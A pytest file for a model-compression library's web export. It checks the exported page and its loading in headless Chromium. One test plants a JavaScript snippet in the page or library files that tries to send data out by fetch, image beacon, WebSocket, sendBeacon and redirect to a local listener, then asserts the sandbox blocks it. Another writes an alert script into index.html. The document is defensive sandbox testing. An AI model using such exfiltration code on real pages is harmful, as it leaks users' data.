"""The web format: the folder, and the page in a headless Chromium."""

import os
import re
import shutil
import socket
import threading

import numpy as np
import pytest

from tfcompress.core.errors import ArtifactError, InvalidArgumentError
from tfcompress.exporters import export, load, manifest
from tfcompress.exporters.web.browser import BROWSERS

pytestmark = pytest.mark.export


@pytest.fixture(scope="module")
def web(quantized, folder):
    return export(quantized, folder / "quantized_web", format="web")


def test_the_folder(web):
    assert [f.name for f in web.files] == [
        "README.md",
        "index.html",
        "model.js",
        "model.tflite",
        "page.css",
        "page.js",
    ]
    for name in ("index.html", "model.js", "page.css", "page.js"):
        # Nothing comes from elsewhere.
        assert "://" not in (web.path / name).read_text()
    assert web.inputs[0].shape == (1, 12, 12, 3)


def test_litertjs_must_be_there(quantized, web, folder, monkeypatch):
    with pytest.raises(InvalidArgumentError, match=r"without core, wasm-utils"):
        export(quantized, folder / "never", format="web", litertjs=str(folder))
    with pytest.raises(InvalidArgumentError, match="is a folder"):
        export(quantized, folder / "never.html", format="web")
    monkeypatch.setattr(shutil, "which", lambda name: "/bin/true")
    with pytest.raises(ArtifactError, match="without litertjs/"):
        load(web)
    monkeypatch.setattr(shutil, "which", lambda name: None)
    with pytest.raises(ArtifactError, match="no Chromium"):
        load(web)


@pytest.mark.browser
def test_integers_in_the_browser_equal_litert(
    quantized, quantized_file, folder, images, monkeypatch
):
    litertjs = os.environ.get("LITERTJS")
    if not litertjs or not any(map(shutil.which, BROWSERS)):
        pytest.skip("needs a Chromium, and LITERTJS=.../node_modules/@litertjs")
    artifact = export(quantized, folder / "page", format="web", litertjs=litertjs)
    got = load(artifact)(images)
    assert got.shape == (50, 10)
    np.testing.assert_array_equal(got, load(quantized_file)(images))
    # A stranger's folder: our page, its model and its LiteRT.js, in a jail.
    monkeypatch.setattr(manifest, "_MADE_HERE", set())
    (artifact.path / "manifest.json").rename(artifact.path / "kept.json")
    (artifact.path / "index.html").write_text("<script>alert(1)</script>")
    np.testing.assert_array_equal(load(artifact)(images), got)
    (artifact.path / "kept.json").rename(artifact.path / "manifest.json")
    (artifact.path / "model.tflite").write_bytes(b"x" * 100)
    (artifact.path / "manifest.json").unlink()
    with pytest.raises(ArtifactError, match=r"damaged|did not run"):
        load(artifact)(images)


CALLS = """
const send = (url) => Promise.allSettled([
  fetch(url, { method: "POST", mode: "no-cors", body: "inputs" }),
  new Promise((end) => {
    const i = new Image(); i.onload = i.onerror = end; i.src = url; }),
  new Promise((end) => {
    const s = new WebSocket(url.replace("http", "ws")); s.onopen = s.onerror = end; }),
  Promise.resolve(navigator.sendBeacon(url, "inputs")),
]);
await send("http://127.0.0.1:%d/");
await send("http://localhost:%d/");
location.href = "http://127.0.0.1:%d/?inputs";
"""


@pytest.mark.browser
@pytest.mark.parametrize("place", ["index.html", "model.js", "page.js", "litertjs"])
def test_a_strangers_page_reaches_nobody(quantized, tmp_path, images, place):
    if not any(map(shutil.which, BROWSERS)):
        pytest.skip("needs a Chromium")
    got = []
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]

    def listen():
        while True:
            try:
                line, _ = server.accept()
            except OSError:
                return
            got.append(line.recv(100))
            line.close()

    threading.Thread(target=listen, daemon=True).start()
    artifact = export(quantized, tmp_path / "page", format="web")
    (artifact.path / "manifest.json").unlink()
    script = CALLS % (port, port, port)
    library = artifact.path / "litertjs"
    (library / "core").mkdir(parents=True)
    if place == "index.html":
        text = f'<pre id="result"></pre><script type="module">{script}</script>'
        (artifact.path / place).write_text(text)
    elif place == "litertjs":
        for name in ("index.js", "dist/index.js"):
            (library / "core" / name).parent.mkdir(exist_ok=True)
            (library / "core" / name).write_text(script)
        imported = re.findall(r'"(\./litertjs/[^"]+)"', page_text(artifact))
        for name in imported:
            file = artifact.path / name
            if file.suffix == ".js":
                file.parent.mkdir(parents=True, exist_ok=True)
                file.write_text(script)
    else:
        (artifact.path / place).write_text(script)
    with pytest.raises(ArtifactError, match="page did not run"):
        load(artifact)(images[:1])
    server.close()
    assert got == []


def page_text(artifact):
    names = ("index.html", "model.js", "page.js")
    return "".join((artifact.path / name).read_text() for name in names)
